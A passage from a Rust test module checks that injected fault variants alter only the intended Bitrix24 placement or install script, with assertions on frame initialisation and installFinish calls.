    fn only_the_frame_faults_change_the_scripts() {
        let (placement, install) = (placement_script(&app(None)), install_script(&app(None)));
        assert!(placement.contains("B24Js.initializeB24Frame()") && placement.contains("fitWindow()"));
        assert!(install.contains("await $b24.installFinish()"));
        for &fault in Fault::ALL {
            let faulty = app(Some(fault));
            let changed = (placement_script(&faulty) != placement, install_script(&faulty) != install);
            let expected = match fault {
                Fault::FrameNoInstallFinish => (false, true),
                _ if fault.in_frame() => (true, false),
                _ => (false, false),
            };
            assert_eq!(changed, expected, "{}", fault.name());
        }
    }
}
